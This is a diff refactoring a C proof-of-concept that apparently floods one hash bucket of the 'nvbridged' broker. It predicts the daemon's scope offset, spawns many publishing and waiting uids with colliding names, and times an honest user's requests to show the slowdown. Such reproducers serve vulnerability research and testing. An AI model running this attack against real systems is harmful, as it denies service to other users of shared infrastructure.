@@ -87,34 +87,6 @@ static char (*colliding(uint32_t off, char tag, size_t n))[24]
 	return v;
 }
 
-/* a connection of uid u that stays: 'k' on ready once HELLO is answered */
-static pid_t holder(uid_t u, int ready)
-{
-	pid_t p = fork();
-
-	if (p == 0) {
-		int s;
-		char c;
-
-		prctl(PR_SET_PDEATHSIG, SIGKILL);
-		if (become(u) || (s = rconnect()) < 0 || rhello(s, -1))
-			_exit(1);
-		c = 'k';
-		if (write(ready, &c, 1) != 1)
-			_exit(1);
-		pause();
-		_exit(0);
-	}
-	return p;
-}
-
-static int wait_ready(int rd)
-{
-	char c = 0;
-
-	return read(rd, &c, 1) == 1 && c == 'k' ? 0 : -1;
-}
-
 /* the value of nvbridged's static `scopes` in process pid of binary bin */
 static int64_t read_scopes(const char *bin, pid_t pid)
 {
@@ -165,8 +137,8 @@ static int64_t calibrate(const char *bin)
 	if (pipe(p))
 		return -1;
 	b = start_broker_at(bin, sock);
-	h = holder(UID_ATTACK, p[1]);
-	if (b > 0 && h > 0 && !wait_ready(p[0]))
+	h = rholder(UID_ATTACK, p[1]);
+	if (b > 0 && h > 0 && !rready(p[0]))
 		v = read_scopes(bin, b);
 	if (h > 0)
 		kill(h, SIGKILL), waitpid(h, NULL, 0);
@@ -176,32 +148,6 @@ static int64_t calibrate(const char *bin)
 	close(p[0]);
 	close(p[1]);
 	return v < 0 ? -1 : v & 0xfff;
-}
-
-/* uid u publishes n names (access OWNER): 'k' on ready, then waits to be killed */
-static pid_t publisher(uid_t u, char (*names)[24], int n, int ready)
-{
-	pid_t p = fork();
-
-	if (p == 0) {
-		struct nvbridge_wire_hdr h;
-		int s, fd, i;
-		char c;
-
-		prctl(PR_SET_PDEATHSIG, SIGKILL);
-		if (become(u) || (s = rconnect()) < 0 || rhello(s, -1))
-			_exit(1);
-		for (i = 0; i < n; i++)
-			if (rpublish(s, (uint32_t)i + 1, names[i], -1, NVBRIDGE_ACCESS_OWNER) ||
-			    rrecv(s, &h, NULL, 0, &fd, 30000) || h.result)
-				break;
-		c = i == n ? 'k' : 'n';
-		if (write(ready, &c, 1) != 1)
-			_exit(1);
-		pause();
-		_exit(0);
-	}
-	return p;
 }
 
 /*
@@ -241,56 +187,22 @@ static pid_t waiter(uid_t u, char (*names)[24], int n, int ready)
 	return p;
 }
 
-static int cmp_d(const void *a, const void *b)
+/* UID_HONEST's PUBLISH + FETCH + UNPUBLISH of ATTACK_NAME: ms, or -1 */
+static double honest_round(int s)
 {
-	double x = *(const double *)a, y = *(const double *)b;
+	struct nvbridge_unpublish u = { .size = sizeof(u) };
+	struct nvbridge_wire_hdr h;
+	int64_t t0 = now_ns();
+	int fd;
 
-	return x < y ? -1 : x > y;
-}
-
-/* UID_HONEST's median PUBLISH + FETCH + UNPUBLISH of ATTACK_NAME in ms, or -1 */
-static double honest_rounds(void)
-{
-	int p[2], st;
-	double med = -1;
-	pid_t c;
-
-	if (pipe(p))
+	snprintf(u.name, sizeof(u.name), ATTACK_NAME);
+	if (rpublish(s, 1, ATTACK_NAME, -1, NVBRIDGE_ACCESS_SCOPE) ||
+	    rrecv(s, &h, NULL, 0, &fd, 5000) || h.result ||
+	    rfetch_req(s, 2, ATTACK_NAME, 0, 0) || rrecv(s, &h, NULL, 0, &fd, 5000) || h.result ||
+	    rsend(s, NVBRIDGE_WIRE_REQUEST, NVBRIDGE_IOC_UNPUBLISH, 3, &u, sizeof(u), NULL, 0, -1) ||
+	    rrecv(s, &h, NULL, 0, &fd, 5000) || h.result)
 		return -1;
-	c = fork();
-	if (c == 0) {
-		static double t[ROUNDS];
-		struct nvbridge_wire_hdr h;
-		int s, fd;
-
-		if (become(UID_HONEST) || (s = rconnect()) < 0 || rhello(s, -1))
-			_exit(1);
-		for (int r = 0; r < ROUNDS; r++) {
-			struct nvbridge_unpublish u = { .size = sizeof(u) };
-			int64_t t0 = now_ns();
-
-			snprintf(u.name, sizeof(u.name), ATTACK_NAME);
-			if (rpublish(s, 1, ATTACK_NAME, -1, NVBRIDGE_ACCESS_SCOPE) ||
-			    rrecv(s, &h, NULL, 0, &fd, 5000) || h.result ||
-			    rfetch_req(s, 2, ATTACK_NAME, 0, 0) || rrecv(s, &h, NULL, 0, &fd, 5000) ||
-			    h.result ||
-			    rsend(s, NVBRIDGE_WIRE_REQUEST, NVBRIDGE_IOC_UNPUBLISH, 3, &u, sizeof(u),
-				  NULL, 0, -1) || rrecv(s, &h, NULL, 0, &fd, 5000) || h.result)
-				_exit(2);
-			t[r] = (double)(now_ns() - t0) / 1e6;
-		}
-		qsort(t, ROUNDS, sizeof(t[0]), cmp_d);
-		if (write(p[1], &t[ROUNDS / 2], sizeof(double)) != sizeof(double))
-			_exit(1);
-		_exit(0);
-	}
-	close(p[1]);
-	if (c < 0 || read(p[0], &med, sizeof(med)) != sizeof(med))
-		med = -1;
-	close(p[0]);
-	if (c > 0)
-		waitpid(c, &st, 0);
-	return med;
+	return (double)(now_ns() - t0) / 1e6;
 }
 
 int main(int argc, char **argv)
@@ -319,25 +231,25 @@ int main(int argc, char **argv)
 	if (broker <= 0)
 		return 2;
 	/* the same first connection as in the calibration: the scope lands where it did */
-	kids[nk++] = holder(UID_ATTACK, p[1]);
-	if (wait_ready(p[0]))
+	kids[nk++] = rholder(UID_ATTACK, p[1]);
+	if (rready(p[0]))
 		goto setup;
 	printf("  scope page offset: 0x%03" PRIx64 " predicted, 0x%03" PRIx64 " in the broker\n",
 	       off, read_scopes(argv[1], broker) & 0xfff);
-	base = honest_rounds();
+	base = median_round_ms(UID_HONEST, honest_round, ROUNDS);
 	c0 = cpu_ms_of(broker);
 	for (int u = 0; u < PUB_UIDS; u++) {
-		kids[nk++] = publisher(UID_PUB + (uid_t)u, pnames, PER_UID, p[1]);
-		got += !wait_ready(p[0]);
+		kids[nk++] = rpublisher(UID_PUB + (uid_t)u, pnames, PER_UID, p[1]);
+		got += !rready(p[0]);
 	}
 	for (int u = 0; u < WAIT_UIDS; u++) {
 		kids[nk++] = waiter(UID_WAIT + (uid_t)u, wnames, PER_UID, p[1]);
-		got += !wait_ready(p[0]);
+		got += !rready(p[0]);
 	}
 	c1 = cpu_ms_of(broker);
 	if (got != PUB_UIDS + WAIT_UIDS)
 		goto setup;
-	during = honest_rounds();
+	during = median_round_ms(UID_HONEST, honest_round, ROUNDS);
 	if (base < 0 || during < 0)
 		goto setup;
 	printf("  %d uids x %d entries and %d uids x %d waiters on names of %s's bucket: "
